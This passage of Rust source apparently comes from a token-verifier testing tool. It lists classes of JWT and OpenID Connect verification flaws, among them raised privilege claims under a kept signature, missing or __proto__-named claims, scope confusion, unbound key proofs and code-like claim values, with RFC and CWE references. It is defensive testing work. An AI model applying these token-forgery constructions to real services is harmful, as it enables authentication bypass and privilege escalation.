                because: "The nonce is compared with that of the authentication request, which a policy does not hold.",
            },
        },
        Class {
            id: "at-hash-c-hash",
            title: "An ID token whose at_hash or c_hash is not that of the token or code beside it was accepted.",
            construction: "at_hash or c_hash wrong, cut short, or with an alg whose hash is not known",
            says: Says::MustReject(Reason::Other),
            severity: Severity::Medium,
            references: &["OpenID Connect Core §3.1.3.8", "CVE-2026-28498"],
            cwe: Some(354),
            make: Make::Waits {
                area: Area::OpenIdConnect,
                because: "The hash is compared with the access token or code of the same response, which is no part \
                          of a case.",
            },
        },
        Class {
            id: "acr-amr",
            title: "An ID token with a weaker authentication than was asked for was accepted.",
            construction: "acr weaker than requested, or amr a string instead of an array",
            says: Says::ShouldReject(Reason::Other),
            severity: Severity::Low,
            references: &["OpenID Connect Core §3.1.3.7"],
            cwe: Some(287),
            make: Make::Waits {
                area: Area::OpenIdConnect,
                because: "What was asked for stands in the authentication request, which a policy does not hold.",
            },
        },
        Class {
            id: "required-claim-missing",
            title: "A token without a required claim was accepted.",
            construction: "each of ten claims absent where it is required, and one or all of four that are required \
                           together",
            says: Says::MustReject(Reason::MissingClaim),
            severity: Severity::High,
            references: &["RFC 7519 §4", "RFC 8725 §3.12", "RFC 9068 §4"],
            cwe: Some(20),
            make: Make::Cases { on: on::claims, build: required_missing, strawman: &REQUIRED_IGNORED },
        },
        Class {
            id: "required-claim-null",
            title: "A token whose required claim is null was accepted.",
            construction: "each of ten claims null where it is required",
            says: Says::MustReject(Reason::MissingClaim),
            severity: Severity::High,
            references: &["RFC 7519 §4", "RFC 8725 §3.12", "RFC 9068 §4"],
            cwe: Some(843),
            make: Make::Cases { on: on::claims, build: required_null, strawman: &NULL_IS_PRESENT },
        },
        Class {
            id: "required-claim-inherited",
            title: "A token without a required claim was accepted where every object has a member of that name.",
            construction: "the required claim is called constructor, __proto__, toString and the like, and is absent",
            says: Says::MustReject(Reason::MissingClaim),
            severity: Severity::Medium,
            references: &["RFC 7519 §4"],
            cwe: Some(1321),
            make: Make::Cases { on: on::claims, build: required_inherited, strawman: &INHERITED_IS_PRESENT },
        },
        Class {
            id: "scope-confusion",
            title: "A token was accepted for a scope that it does not grant.",
            construction: "scope a string or an array, scp in its place, or a scope that is part of another's name",
            says: Says::ShouldReject(Reason::Other),
            severity: Severity::Medium,
            references: &["RFC 9068 §2.2.3", "RFC 8693 §4.2"],
            cwe: Some(863),
            make: Make::Live { by: "assay sessions --service" },
        },
        Class {
            id: "privilege-claims-unsigned",
            title: "A token whose claims were raised to an administrator's under the old signature was accepted.",
            construction: "role, roles, groups, scope, is_admin, realm_access or sub changed in a valid token, its \
                           signature kept",
            says: Says::MustReject(Reason::Signature),
            severity: Severity::Critical,
            references: &["RFC 7515 §5.2"],
            cwe: Some(347),
            make: Make::Cases { on: on::usual, build: privileges, strawman: &SKIPS_SIGNATURE },
        },
        Class {
            id: "claim-value-injection",
            title: "A valid token whose claims look like code was refused, or its claims were changed.",
            construction: "texts that a page, a query, a template, a shell or a log would run, in claims of a \
                           genuinely signed token",
            says: Says::MustAccept,
            severity: Severity::Medium,
            references: &["RFC 7519 §7.2", "RFC 7515 §5.2", "RFC 8725 §3.10"],
            cwe: Some(74),
            make: Make::Cases { on: on::claims, build: injection, strawman: &CLAIMS_ESCAPED },
        },
        Class {
            id: "claim-processed-before-signature",
            title: "A claim of a token with a wrong signature had an effect.",
            construction: "a mark in a claim of a token with a wrong signature, looked for in what the service \
                           answers or does",
            says: Says::MustReject(Reason::Signature),
            severity: Severity::High,
            references: &["RFC 7515 §5.2"],
            cwe: Some(696),
            make: Make::Waits {
                area: Area::LiveService,
                because: "A library that refuses hands on no claims; the effect shows in a service's answers and logs.",
            },
        },
        Class {
            id: "cnf-jkt-mismatch",
            title: "A token bound to a key was accepted without proof of that key.",
            construction: "cnf with the thumbprint of another key or certificate, or no proof beside the token at all",
            says: Says::MustReject(Reason::Other),
            severity: Severity::High,
            references: &["RFC 9449 §7.1", "RFC 8705 §3"],
            cwe: Some(290),
            make: Make::Waits {
                area: Area::LiveService,
                because: "The proof is a header field or a client certificate of the request, which is no part of a \
                          case.",
            },
        },
        Class {
            id: "act-may-act-depth",
            title: "A token with an odd chain of actors made the verifier fall over, or took it too long.",
            construction: "act or may_act nested 10 to 10 000 deep, or act that is not an object",
            says: Says::Bounded(1000),
            severity: Severity::Low,
            references: &["RFC 8693 §4.1", "RFC 8693 §4.4"],
            cwe: Some(674),
            make: Make::Cases { on: on::one, build: delegation, strawman: &ACTORS_UNWRAPPED },
        },
        Class {
            id: "events-claim-in-session",
            title: "A security event token was accepted in place of a session token.",
            construction: "a token with events and a typ of its own where another typ is required, or without the exp \
                           or sub that is required",
            says: Says::MustReject(Reason::MissingClaim),
            severity: Severity::Medium,
            references: &["RFC 8417 §2.3", "RFC 8417 §4.6", "RFC 8725 §3.11", "RFC 8725 §3.12"],
            cwe: Some(863),
            make: Make::Cases { on: on::claims, build: events, strawman: &EVENT_IS_SESSION },
        },
    ],
};
